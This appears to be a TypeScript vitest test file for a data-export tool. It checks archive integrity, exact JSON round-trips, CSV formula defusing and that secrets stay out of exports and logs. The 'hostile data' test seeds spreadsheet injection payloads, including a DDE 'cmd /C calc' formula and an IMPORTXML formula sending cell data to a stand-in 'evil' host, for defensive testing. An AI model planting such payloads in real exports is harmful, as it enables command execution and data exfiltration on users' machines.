import { execFileSync } from 'node:child_process';
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  type ConfigDraft,
  createTestEnv,
  fulfillInProcess,
  getObject,
  requestRow,
  type TestEnv,
} from '../support/harness.ts';
import { EVERY_PLANE } from '../support/hostile.ts';
import { insertFeature, insertProject, insertRelease, insertRequest, insertUser } from '../support/seed.ts';
import { toolAvailable } from '../support/tools.ts';
import { parseJsonExact, readZip } from '../support/zip.ts';

let env: TestEnv;
beforeAll(async () => {
  env = await createTestEnv();
});
afterAll(async () => {
  await env?.close();
});

const fulfill = (id: string, tweak?: (config: ConfigDraft) => void) =>
  fulfillInProcess(env, { requestIds: [id], tweak });

describe('hostile data', () => {
  it('a 10 MB cell, deeply nested jsonb, every Unicode plane, formula payloads, CRLF: the archive opens everywhere, JSON is exact, CSV is safe', async () => {
    const user = await insertUser(env.admin, { name: EVERY_PLANE });
    const project = await insertProject(env.admin, user, {
      name: '=cmd|" /C calc"!A0',
      description: `line one\r\nline two\r\n"quoted", comma`,
    });
    const nested = `${'{"a":'.repeat(500)}[1, 18446744073709551615, "\\u0001x"]${'}'.repeat(500)}`;
    const huge = `${'big cell '.repeat(1_165_000)}end`; // ~10 MB
    await insertFeature(env.admin, project, {
      title: huge,
      metadata: nested,
      key: '@IMPORTXML(CONCAT("http://evil/?", A1))',
    });
    await insertRelease(env.admin, project, { version: '+1+1', notes: '-2+3+cmd|" /C calc"!A0' });
    await insertRelease(env.admin, project, { version: '-12.5', notes: '\tTAB\rCR' });
    const id = await insertRequest(env.admin, user);

    const { summary } = await fulfill(id);
    expect(summary.ready).toBe(1);
    const zipBytes = await getObject(env, (await requestRow(env, id))!.object_key);

    // The archive opens in Python's zipfile and in unzip, not only in our reader.
    const dir = mkdtempSync(path.join(os.tmpdir(), 'exporter-zip-'));
    try {
      const file = path.join(dir, 'export.zip');
      writeFileSync(file, zipBytes);
      const py = execFileSync('python3', [
        '-c',
        'import sys, zipfile; z = zipfile.ZipFile(sys.argv[1]); assert z.testzip() is None; print(len(z.namelist()))',
        file,
      ]);
      // 17 of data and README; the viewer's: index.html, its shipped files and its two data scripts.
      const viewerFiles =
        1 + readdirSync(new URL('../../viewer/', import.meta.url)).filter((f) => f !== 'index.html').length + 2;
      expect(Number(py.toString().trim())).toBe(17 + viewerFiles);
      expect(execFileSync('unzip', ['-tq', file]).toString()).toMatch(/No errors detected/);
      if (toolAvailable('7zz')) expect(execFileSync('7zz', ['t', file]).toString()).toMatch(/Everything is Ok/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }

    const files = await readZip(zipBytes);
    const json = (name: string) => parseJsonExact(files.get(`json/${name}.json`)!.toString('utf8')) as any[];
    // JSON round-trips exactly: compare with the database's own text of each value.
    const db = async (sql: string) => (await env.admin.query(sql, [user])).rows[0];
    expect(json('users')[0].name).toBe(EVERY_PLANE);
    const feature = json('features')[0];
    expect(feature.title).toBe(huge);
    expect(
      JSON.stringify(feature.metadata, (_k, v) => (typeof v === 'bigint' ? `@@${v}@@` : v)).replace(
        /"@@(\d+)@@"/g,
        '$1',
      ),
    ).toBe(
      (
        await db(
          `select f.metadata::text as m from features f join projects p on p.id = f.project_id where p.owner_id = $1`,
        )
      ).m.replace(/\s/g, ''),
    );
    expect(json('projects')[0].description).toBe(`line one\r\nline two\r\n"quoted", comma`);

    // CSV: the same text back through a CSV parser, formulas defused, numbers-as-text left alone.
    const csv = (name: string) =>
      parseCsv(files.get(`csv/${name}.csv`)!.toString('utf8'), {
        bom: true,
        columns: true,
        relax_column_count: false,
      }) as Record<string, string>[];
    expect(csv('users')[0]!.name).toBe(EVERY_PLANE);
    expect(csv('projects')[0]).toMatchObject({
      name: `'=cmd|" /C calc"!A0`,
      description: `line one\r\nline two\r\n"quoted", comma`,
    });
    expect(csv('features')[0]!.key).toBe(`'@IMPORTXML(CONCAT("http://evil/?", A1))`);
    expect(csv('features')[0]!.title).toBe(huge);
    const releases = Object.fromEntries(csv('releases').map((r) => [r.notes, r.version]));
    expect(releases[`'-2+3+cmd|" /C calc"!A0`]).toBe(`'+1+1`);
    expect(releases[`'\tTAB\rCR`]).toBe('-12.5');
  });
});

describe('secrets', () => {
  it('a sensitive column added to the application later is never exported', async () => {
    await env.admin.query(`alter table users add column api_token text default 'tok_live_MUST_NOT_LEAK'`);
    try {
      const user = await insertUser(env.admin);
      const id = await insertRequest(env.admin, user);
      await fulfill(id);
      const files = await readZip(await getObject(env, (await requestRow(env, id))!.object_key));
      const everything = [...files.values()].map((b) => b.toString('utf8')).join('\n');
      expect(everything).not.toContain('tok_live_MUST_NOT_LEAK');
      expect(everything).not.toContain('api_token');
      expect(everything).not.toContain('SECRET-HASH-MUST-NOT-LEAK');
    } finally {
      await env.admin.query('alter table users drop column api_token');
    }
  });

  it('signing credentials that expire before the link: the run says so loudly and stores the real expiry', async () => {
    const user = await insertUser(env.admin);
    const id = await insertRequest(env.admin, user);
    const expiration = new Date(Date.now() + 3600_000);
    const { logger } = await fulfill(id, (config) => {
      const { accessKeyId, secretAccessKey } = env.s3;
      config.storage.credentials = async () => ({
        accessKeyId,
        secretAccessKey,
        sessionToken: 'FwoGZXIvYXdzEJrSESSION',
        expiration,
      });
    });
    const row = (await requestRow(env, id))!;
    expect(row.status).toBe('ready');
    expect(row.expires_at.getTime()).toBe(expiration.getTime());
    const warning = logger
      .lines()
      .map((l) => JSON.parse(l))
      .find((l) => l.level === 'warn');
    expect(warning?.msg).toMatch(/signing credentials expire before the link lifetime/);
    expect(logger.text()).not.toContain('FwoGZXIvYXdzEJrSESSION');
    // README.txt inside the archive promises the real expiry too.
    const files = await readZip(await getObject(env, row.object_key));
    expect(JSON.parse(files.get('manifest.json')!.toString()).link_expires_at).toBe(expiration.toISOString());
  });
});
